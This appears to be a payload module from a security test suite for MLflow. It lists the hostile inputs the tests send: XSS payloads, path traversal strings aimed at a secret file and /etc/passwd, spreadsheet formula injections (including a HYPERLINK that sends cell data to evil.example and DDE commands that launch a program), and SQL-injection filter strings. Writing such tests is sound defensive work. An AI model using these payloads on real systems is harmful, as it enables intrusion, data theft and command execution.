"""The hostile inputs the suite sends, one list per attack family, each named for test ids.

A script payload sets ``window.__pwned``: a page where it ran shows it, whatever else the
payload did. MLflow's own validation narrows some fields (param, metric and tag keys hold
only letters, digits and ``_-. /:``; model names no ``/`` or ``:``), so each field is
seeded with the strongest payload MLflow accepts there.
"""

from __future__ import annotations

from urllib.parse import quote

PWNED = "window.__pwned=1"

SCRIPT = f"<script>{PWNED}</script>"
IMG = f'<img src=x onerror="{PWNED}">'
SVG_BREAKOUT = f'"><svg onload={PWNED}>'
ATTRIBUTE_BREAKOUT = f"' onmouseover='{PWNED}' x='"
JAVASCRIPT_URL = f"javascript:{PWNED}"
# keys: what MLflow's key rule lets through that a careless template would still misuse
JAVASCRIPT_KEY = "javascript: void"

# Every script payload a free-text field (names, descriptions, values, cells) is seeded
# with, and the names a page shows them under.
SCRIPTS = {
    "script": SCRIPT,
    "img": IMG,
    "svg": SVG_BREAKOUT,
    "attribute": ATTRIBUTE_BREAKOUT,
    "javascript-url": JAVASCRIPT_URL,
}

# A secret beside the store that every traversal aims at, by relative and absolute path.
SECRET_NAME = "secret.txt"
SECRET_TEXT = "TOPSECRET-3f9a1c"
UP = "../" * 12


def traversals(secret: str) -> dict[str, str]:
    """Path parameter values, as the path segment to put in a URL (already encoded as the
    attack wants): ``../``, encoded, double-encoded, backslash, absolute and NUL; the
    absolute ones aim at ``secret`` (the absolute path of the secret file)."""
    relative = f"{UP}{SECRET_NAME}"
    return {
        "dotdot": relative,  # the client may fold dot segments: then another route sees it
        "encoded": quote(relative, safe=""),
        "double-encoded": quote(quote(relative, safe=""), safe=""),
        "backslash": quote(relative.replace("/", "\\"), safe=""),
        "absolute": quote(secret, safe=""),
        "etc-passwd": quote("/etc/passwd", safe=""),
        "nul": quote(f"x\x00{relative}", safe=""),
        "dot": quote("..", safe=""),
    }


# What a leaked file would show in a response.
LEAK_MARKERS = (SECRET_TEXT, "root:x:0:0")

# Cells a spreadsheet would run as a formula, by what starts them (OWASP's list).
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# Cells that look like formulas to a naive check and must stay numbers.
NUMBERS = ("-1", "-0.5", "+3", "-1e-3")

# Filter values that look like SQL; MLflow's filter grammar refuses each.
SQL_FILTERS = {
    "drop-table": "'; DROP TABLE runs; --",
    "or-true": "metrics.accuracy = 1 OR 1=1",
    "unbalanced-quote": "params.model_type = 'random_forest",
    "union": "params.a = 'x' UNION SELECT run_uuid FROM runs --",
    "comment": "attributes.status = 'FINISHED' --",
    "stacked": "metrics.accuracy > 0; DELETE FROM experiments",
}
# Orderings that look like SQL.
SQL_ORDERS = {
    "drop-table": "metrics.accuracy; DROP TABLE runs",
    "subquery": "(SELECT 1)",
    "unbalanced-quote": "params.`model_type DESC",
}
